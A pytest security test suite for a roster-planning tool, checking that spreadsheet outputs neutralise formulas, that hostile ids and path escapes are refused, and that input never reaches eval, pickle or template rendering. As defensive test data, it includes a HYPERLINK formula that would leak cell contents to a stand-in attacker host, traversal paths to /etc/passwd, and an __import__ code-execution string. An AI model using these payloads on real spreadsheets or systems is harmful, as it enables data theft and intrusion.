"""Security: formula cells neutralised in outputs, hostile ids refused, no path escapes, inputs never evaluated."""

from __future__ import annotations

import ast
from pathlib import Path

import pytest

from planner.safe import cell
from tests._robust_helpers import REPO, WEEK, WIJK_A, WIJK_B, invoke, write_data

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
OFFICERS = (
    "officer_id,name,wijk_code,contract_hours,night_exempt,team\n"
    f'W-01,"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",{WIJK_A},36,nee,Team Proef\n'
    f"W-02,@SUM(1+1),{WIJK_B},32,ja,Team Proef\n"
    f"W-03,+31612345678,{WIJK_B},24,nee,Team Proef\n"
    f"W-04,-1+1,{WIJK_A},24,nee,Team Proef\n"
)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HOSTILE_NAME])
def test_cell_neutralises_formula_prefix(value):
    """safe.cell puts a ' before text that a spreadsheet would run as a formula."""
    assert cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "W-01", "", 36.0, None, 0])
def test_cell_leaves_plain_values(value):
    assert cell(value) == value


def test_roster_xlsx_has_no_formula_cells(tmp_path):
    """Officer names like =HYPERLINK(...) reach roster.xlsx as text: no cell is a formula or starts with = + - @."""
    from openpyxl import load_workbook

    data = write_data(tmp_path / "data", {"officers.csv": OFFICERS, "absences.csv": None, "wishes.csv": None})
    out = tmp_path / "out"
    result = invoke(["roster", data, "-w", WEEK, "-o", out, "-q", "--time-limit", "10"])
    assert result.exit_code in (0, 1), result.output
    wb = load_workbook(out / "roster.xlsx")
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    seen.append(c.value)
                    assert not c.value.startswith(("=", "+", "-", "@")), (ws.title, c.coordinate, c.value)
    assert "'" + HOSTILE_NAME in seen
    assert "'@SUM(1+1)" in seen


def test_summary_and_csv_hold_no_live_formula(tmp_path):
    """roster.csv holds ids and codes only (ids cannot start with = + - @), never names."""
    data = write_data(tmp_path / "data", {"officers.csv": OFFICERS, "absences.csv": None, "wishes.csv": None})
    out = tmp_path / "out"
    invoke(["roster", data, "-w", WEEK, "-o", out, "-q", "--time-limit", "10"])
    text = (out / "roster.csv").read_text(encoding="utf-8")
    assert "HYPERLINK" not in text and "@SUM" not in text
    for line in text.splitlines():
        for field in line.split(","):
            assert not field.startswith(("=", "+", "@")), line


@pytest.mark.parametrize("oid", ["=1+1", "+1", "-1", "@x", "a|b", "a,b"])
def test_hostile_officer_id_refused(tmp_path, oid):
    """Officer ids starting with = + - @ (or holding | or ,) are refused at input, naming row and column."""
    quoted = '"' + oid + '"'
    off = f"officer_id,name,wijk_code,contract_hours\n{quoted},A,{WIJK_A},36\n"
    result = invoke(["validate", write_data(tmp_path / "d", {"officers.csv": off, "absences.csv": None,
                                                              "wishes.csv": None, "team_demand.csv": None})])
    assert result.exit_code == 2
    assert "officers.csv, row 2, column 'officer_id'" in result.output


@pytest.mark.parametrize("target", ["../../etc/passwd", "/etc/passwd", "sub/../../outside.geojson"])
def test_wijken_path_outside_data_folder_refused(tmp_path, target):
    """[files] wijken may not leave the data folder (relative climb, absolute path)."""
    (tmp_path / "outside.geojson").write_text("{}", encoding="utf-8")
    data = write_data(tmp_path / "d", {"planner.toml": f'[files]\nwijken = "{target}"\n'})
    result = invoke(["validate", data])
    assert result.exit_code == 2
    assert "lies outside the data folder" in result.output


def test_wijken_symlink_outside_data_folder_refused(tmp_path):
    """A symlink inside the folder pointing outside is resolved and refused too."""
    outside = tmp_path / "secret.geojson"
    outside.write_text("{}", encoding="utf-8")
    data = write_data(tmp_path / "d", {"planner.toml": '[files]\nwijken = "link.geojson"\n'})
    (data / "link.geojson").symlink_to(outside)
    result = invoke(["validate", data])
    assert result.exit_code == 2
    assert "lies outside the data folder" in result.output


_FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__"}
_FORBIDDEN_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "joblib"}
_FORBIDDEN_ATTRS = {"read_pickle", "load_pickle", "unsafe_load", "full_load"}


def test_package_never_evaluates_or_unpickles_input():
    """No eval/exec/compile, no pickle/marshal/shelve, no yaml.load or read_pickle, no np.load(allow_pickle=True)."""
    found = []
    for path in sorted((REPO / "planner").rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            where = f"{path.relative_to(REPO)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Call):
                f = node.func
                if isinstance(f, ast.Name) and f.id in _FORBIDDEN_CALLS:
                    found.append(f"{where} {f.id}()")
                if isinstance(f, ast.Attribute):
                    if f.attr in _FORBIDDEN_ATTRS:
                        found.append(f"{where} .{f.attr}()")
                    if f.attr == "load" and isinstance(f.value, ast.Name) and f.value.id == "yaml":
                        found.append(f"{where} yaml.load()")
                for kw in node.keywords:
                    if kw.arg == "allow_pickle" and not (isinstance(kw.value, ast.Constant) and not kw.value.value):
                        found.append(f"{where} allow_pickle")
            if isinstance(node, ast.Import):
                found += [f"{where} import {a.name}" for a in node.names if a.name.split(".")[0] in _FORBIDDEN_MODULES]
            if isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in _FORBIDDEN_MODULES:
                found.append(f"{where} from {node.module}")
    assert found == [], found


def test_planner_toml_is_data_not_code(tmp_path):
    """A planner.toml that looks like Python is a TOML error, never run."""
    marker = tmp_path / "ran"
    data = write_data(tmp_path / "d", {"planner.toml": f"__import__('pathlib').Path('{marker}').touch()\n"})
    result = invoke(["validate", data])
    assert result.exit_code == 2
    assert "planner.toml: is not valid TOML" in result.output
    assert not marker.exists()
    assert Path(data / "planner.toml").is_file()


#: The one module that may use Folium (and branca, its page model): the coverage map.
FOLIUM_MODULE = Path("planner/maps/html.py")


def test_pages_are_the_one_way_into_html():
    """Only planner/pages.py makes Jinja2 templates (from package files) and escapes; only the map module uses
    Folium/branca (whose second render pass runs text as template code: see test_folium_gets_only_inert_text);
    nothing renders a string as a template or escapes HTML by hand, Markup() is only ever built from string
    literals, and only planner/pages.py makes an Inert string (the gate's output type)."""
    found = []
    for path in sorted((REPO / "planner").rglob("*.py")):
        rel = path.relative_to(REPO)
        pages = rel == Path("planner/pages.py")
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        for node in ast.walk(tree):
            where = f"{rel}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
                for n in names:
                    top = n.split(".")[0]
                    if (top in ("jinja2", "markupsafe", "html") and not pages) or \
                            (top in ("folium", "branca") and rel != FOLIUM_MODULE):
                        found.append(f"{where} imports {n}")
            if isinstance(node, ast.Call) and not pages:
                f = node.func
                name = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
                if name in ("from_string", "Environment") or (name == "Template" and rel != FOLIUM_MODULE):
                    found.append(f"{where} {name}()")
                if name == "Markup" and not all(isinstance(a, ast.Constant) for a in node.args):
                    found.append(f"{where} Markup() of a non-literal")
                if name in ("Inert", "InertData", "InertHtml"):
                    found.append(f"{where} {name}() made outside planner.pages")
    assert found == [], found


# ---- Folium: every value it is handed is inert -------------------------------------------------------------------

#: The gate (planner.pages): the only functions whose result may carry input text into Folium.
_SAFE_FUNCS = {"folium_data", "folium_html"}
#: Calls whose result holds no text: numbers, truth values, the package's own Leaflet files.
_VALUE_FUNCS = {"float", "int", "round", "bool", "len", "leaflet_assets"}
#: Annotations of parameters that cannot carry input text (with the Folium classes and the gate's types).
_SAFE_TYPES = {"Inert", "InertData", "InertHtml", "int", "float", "bool", "list", "tuple", "dict", "None", "Any"}


def _root(node: ast.AST) -> ast.AST:
    """``m`` of ``m.get_root().header.add_child``: down through attributes, calls and subscripts."""
    while isinstance(node, ast.Attribute | ast.Call | ast.Subscript):
        node = node.func if isinstance(node, ast.Call) else node.value
    return node


def _is_literal(node: ast.AST) -> bool:
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.Tuple | ast.List | ast.Set):
        return all(_is_literal(e) for e in node.elts)
    if isinstance(node, ast.Dict):
        return all(k is not None and _is_literal(k) for k in node.keys) and all(_is_literal(v) for v in node.values)
    if isinstance(node, ast.BinOp):
        return _is_literal(node.left) and _is_literal(node.right)
    return False


class _FoliumHandOffs:
    """Finds every place in a module where a value is handed to Folium (a call of a Folium or branca API or of a
    class built on them, a method of such an element, an attribute set on one) and reports each value that is not
    inert: literals, module constants, the gate's results (folium_data, folium_html), other elements, numbers and
    truth values, and parameters typed as one of these are inert; anything else (a name from the input, an
    attribute, json.dumps, an f-string of text) is a hand-off of possibly hostile text."""

    def __init__(self, source: str) -> None:
        self.tree = ast.parse(source)
        self.folium: set[str] = set()  # names bound to Folium/branca modules or their objects
        self.constants: set[str] = set()
        self.classes: set[str] = set()  # classes built on Folium/branca classes
        for node in self.tree.body:
            if isinstance(node, ast.Import):
                self.folium |= {(a.asname or a.name).split(".")[0] for a in node.names
                                if a.name.split(".")[0] in ("folium", "branca")}
            elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in ("folium", "branca"):
                self.folium |= {a.asname or a.name for a in node.names}
            elif isinstance(node, ast.Assign | ast.AnnAssign) and node.value is not None and _is_literal(node.value):
                targets = node.targets if isinstance(node, ast.Assign) else [node.target]
                self.constants |= {t.id for t in targets if isinstance(t, ast.Name)}
        changed = True
        while changed:
            changed = False
            for node in self.tree.body:
                if isinstance(node, ast.ClassDef) and node.name not in self.classes and \
                        any(self._is_folium_name(b) for b in node.bases):
                    self.classes.add(node.name)
                    changed = True
        self.found: list[str] = []

    def _is_folium_name(self, node: ast.AST) -> bool:
        root = _root(node)
        return isinstance(root, ast.Name) and (root.id in self.folium or root.id in self.classes)

    def _annotation_safe(self, ann: ast.AST | None) -> bool:
        if ann is None:
            return False
        for n in ast.walk(ann):
            if isinstance(n, ast.Name) and n.id not in _SAFE_TYPES | self.folium | self.classes:
                return False
            if isinstance(n, ast.Constant) and n.value is not None:
                return False
        return True

    def _callee_is_folium(self, func: ast.AST, trusted: set[str]) -> bool:
        if self._is_folium_name(func):
            return True
        root = _root(func)
        return isinstance(root, ast.Name) and isinstance(func, ast.Attribute) and root.id in trusted and \
            root.id in self._elements

    def inert(self, node: ast.AST | None, trusted: set[str]) -> bool:
        if node is None or isinstance(node, ast.Constant):
            return True
        if isinstance(node, ast.Name):
            return node.id in trusted or node.id in self.constants
        if isinstance(node, ast.Call):
            f = node.func
            name = f.attr if isinstance(f, ast.Attribute) else getattr(f, "id", "")
            return name in _SAFE_FUNCS or name in _VALUE_FUNCS or self._callee_is_folium(f, trusted)
        if isinstance(node, ast.Subscript):  # leaflet_assets()[0]
            return isinstance(node.value, ast.Call) and self.inert(node.value, trusted)
        if isinstance(node, ast.Compare):
            return True  # a truth value
        if isinstance(node, ast.BoolOp):
            return all(self.inert(v, trusted) for v in node.values)
        if isinstance(node, ast.UnaryOp):
            return self.inert(node.operand, trusted)
        if isinstance(node, ast.BinOp):
            return self.inert(node.left, trusted) and self.inert(node.right, trusted)
        if isinstance(node, ast.IfExp):
            return self.inert(node.body, trusted) and self.inert(node.orelse, trusted)
        if isinstance(node, ast.Tuple | ast.List | ast.Set):
            return all(self.inert(e, trusted) for e in node.elts)
        if isinstance(node, ast.Dict):
            return all(self.inert(k, trusted) for k in node.keys) and all(self.inert(v, trusted) for v in node.values)
        if isinstance(node, ast.JoinedStr):
            return all(self.inert(v.value if isinstance(v, ast.FormattedValue) else v, trusted) for v in node.values)
        if isinstance(node, ast.Starred):
            return self.inert(node.value, trusted)
        return False

    def check(self) -> list[str]:
        scopes: list[tuple[ast.AST, str | None]] = [(n, None) for n in self.tree.body
                                                    if isinstance(n, ast.FunctionDef)]
        for cls in self.tree.body:
            if isinstance(cls, ast.ClassDef):
                scopes += [(n, cls.name) for n in cls.body if isinstance(n, ast.FunctionDef)]
        for fn, cls in scopes:
            self._check_function(fn, cls)  # type: ignore[arg-type]
        return self.found

    def _check_function(self, fn: ast.FunctionDef, cls: str | None) -> None:
        in_element = cls in self.classes
        args = fn.args.posonlyargs + fn.args.args + fn.args.kwonlyargs
        trusted = {a.arg for a in args if self._annotation_safe(a.annotation)}
        self._elements = {a.arg for a in args if a.annotation is not None and self._is_folium_name(a.annotation)}
        if in_element and args:
            trusted.add(args[0].arg)
            self._elements.add(args[0].arg)
        tainted: set[str] = set()  # lists that something not inert is appended to
        for _ in range(3):  # names bound to inert values, to elements, and enumerate's counters
            for node in ast.walk(fn):
                if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and \
                        node.func.attr == "append" and isinstance(node.func.value, ast.Name) and \
                        not all(self.inert(a, trusted) for a in node.args):
                    tainted.add(node.func.value.id)
                if isinstance(node, ast.Assign) and len(node.targets) == 1 and isinstance(node.targets[0], ast.Name):
                    if self.inert(node.value, trusted) and node.targets[0].id not in tainted:
                        trusted.add(node.targets[0].id)
                        if isinstance(node.value, ast.Call) and self._callee_is_folium(node.value.func, trusted):
                            self._elements.add(node.targets[0].id)
                if isinstance(node, ast.For) and isinstance(node.iter, ast.Call) and \
                        getattr(node.iter.func, "id", "") == "enumerate":
                    first = node.target.elts[0] if isinstance(node.target, ast.Tuple) else None
                    if isinstance(first, ast.Name):
                        trusted.add(first.id)
            trusted -= tainted
        for node in ast.walk(fn):
            where = f"line {getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Call):
                f = node.func
                if self._callee_is_folium(f, trusted):
                    for value in [*node.args, *(k.value for k in node.keywords)]:
                        if not self.inert(value, trusted):
                            self.found.append(f"{where}: {ast.unparse(value)} handed to {ast.unparse(f)}")
            if isinstance(node, ast.Assign):
                pairs = []
                for t in node.targets:
                    if isinstance(t, ast.Tuple) and isinstance(node.value, ast.Tuple) and \
                            len(t.elts) == len(node.value.elts):
                        pairs += list(zip(t.elts, node.value.elts, strict=True))
                    else:
                        pairs.append((t, node.value))
                for target, value in pairs:
                    root = _root(target)
                    if isinstance(target, ast.Attribute) and isinstance(root, ast.Name) and \
                            root.id in self._elements and not self.inert(value, trusted):
                        self.found.append(f"{where}: {ast.unparse(value)} set as {ast.unparse(target)}")
            if isinstance(node, ast.Return) and in_element and fn.name == "render" and \
                    not self.inert(node.value, trusted):
                self.found.append(f"{where}: {cls}.render returns {ast.unparse(node.value)}")


def test_folium_gets_only_inert_text():
    """Folium renders each element's output a second time as Jinja2 source, so the map module hands it input
    text only through planner.pages.folium_data / folium_html (see _FoliumHandOffs for what counts as inert)."""
    assert _FoliumHandOffs((REPO / FOLIUM_MODULE).read_text(encoding="utf-8")).check() == []


_MODULE_HEAD = """
import folium
from branca.element import Element, MacroElement
from folium.template import Template
from planner.pages import InertHtml, folium_data, folium_html

TITLE = "Wijkdekking"


class _Box(MacroElement):
    _template = Template("{% macro script(this, kwargs) %}{{ this.text }}{% endmacro %}")

    def __init__(self, text: InertHtml, n: int) -> None:
        super().__init__()
        self._name = "Box"
        self.text, self.n = text, n

"""

#: Hand-offs of input text the guard must find: each line is the body of ``def f(m: folium.Map, rec, name: str)``.
_UNSAFE = [
    'folium.Tooltip(rec["wijk_naam"]).add_to(m)',
    "folium.FeatureGroup(name=name).add_to(m)",
    'folium.Popup(f"<b>{name}</b>").add_to(m)',
    "m.add_child(folium.Element(name))",
    "m.add_child(_Box(name, 1))",
    "import json\n    m.add_child(_Box(json.dumps(rec), 1))",
    "m.get_root().title = name",
    "m.get_root().header.add_child(Element(rec))",
    "Template(name)",
    "group = folium.FeatureGroup(name=TITLE)\n    group.layer_name = name",
    "folium.GeoJson(rec, tooltip=folium.GeoJsonTooltip(['naam'])).add_to(m)",
    "boxes = []\n    boxes.append(name)\n    folium.LayerControl(boxes)",
]
#: The same places with the text made inert (or none at all): the guard must let them pass.
_SAFE = [
    'folium.Tooltip(folium_html("{}", rec["wijk_naam"])).add_to(m)',
    'folium.FeatureGroup(name=folium_html("{}", name), show=name == TITLE).add_to(m)',
    'm.add_child(_Box(folium_html("<b>{}</b>", name), len(name)))',
    "m.get_root().title = folium_html('{}', name)",
    "for i, x in enumerate(rec):\n        m.add_child(_Box(folium_html('{}', x), i))",
    "m.fit_bounds([[float(rec[0]), 1.0], [2.0, 3.0]])",
]


@pytest.mark.parametrize("body", _UNSAFE)
def test_folium_guard_finds_text_handed_to_folium(body):
    source = _MODULE_HEAD + f"def f(m: folium.Map, rec, name: str) -> None:\n    {body}\n"
    assert _FoliumHandOffs(source).check() != [], body


@pytest.mark.parametrize("body", _SAFE)
def test_folium_guard_lets_inert_text_through(body):
    source = _MODULE_HEAD + f"def f(m: folium.Map, rec, name: str) -> None:\n    {body}\n"
    assert _FoliumHandOffs(source).check() == [], body


def test_folium_guard_checks_what_an_element_keeps():
    """An element of the map that keeps a parameter typed str (not Inert) is a hand-off too."""
    source = _MODULE_HEAD.replace("text: InertHtml", "text: str")
    assert _FoliumHandOffs(source).check() != []
